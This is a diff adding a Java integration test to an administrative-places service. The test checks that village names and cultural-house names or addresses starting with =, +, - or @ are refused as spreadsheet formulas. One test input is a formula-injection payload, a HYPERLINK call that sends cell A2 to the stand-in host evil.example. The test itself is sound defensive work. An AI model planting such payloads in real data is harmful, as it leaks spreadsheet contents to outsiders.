@@ -9,6 +9,7 @@ import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.security.access.AccessDeniedException;
 import vn.tramso.IntegrationTest;
+import vn.tramso.base.Messages;
 import vn.tramso.TestStaff;
 import vn.tramso.place.PlaceRefusedException.Reason;
 
@@ -104,6 +105,21 @@ class PlaceAdminTest {
         staff.run("tnv.traphuong", () -> assertThatThrownBy(() -> admin.addVillage(hongQuang, "HY-HQ-X", "Thôn X",
                 VillageKind.THON, null, null)).isInstanceOf(AccessDeniedException.class));
         assertThat(jdbc.sql("SELECT COUNT(*) FROM commune WHERE code = 'HN-MOI'").query(Integer.class).single()).isZero();
+    }
+
+    @Test
+    void a_name_or_address_that_a_spreadsheet_would_run_as_a_formula_is_refused_and_nothing_changes() {
+        long village = jdbc.sql("SELECT id FROM village WHERE code = 'HY-HQ-TRA-PHUONG'").query(Long.class).single();
+        staff.run("lanhdao.hongquang", () -> {
+            assertThat(refusal(() -> admin.rename(PlaceLevel.VILLAGE, village, "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")")))
+                    .isEqualTo(Reason.FORMULA_NAME);
+            assertThat(refusal(() -> admin.rename(PlaceLevel.VILLAGE, village, "  @SUM(1+1)"))).isEqualTo(Reason.FORMULA_NAME);
+            assertThat(refusal(() -> admin.changeCulturalHouse(village, "+Nhà văn hóa", null))).isEqualTo(Reason.FORMULA_NAME);
+            assertThat(refusal(() -> admin.changeCulturalHouse(village, "Nhà văn hóa thôn Trà Phương", "-1+2")))
+                    .isEqualTo(Reason.FORMULA_ADDRESS);
+        });
+        assertThat(places.village(village).orElseThrow().name()).isEqualTo("Thôn Trà Phương");
+        assertThat(Messages.vi(Reason.FORMULA_NAME.messageKey())).startsWith("Tên không được bắt đầu bằng =, +, -, @");
     }
 
     private static Reason refusal(Runnable action) {
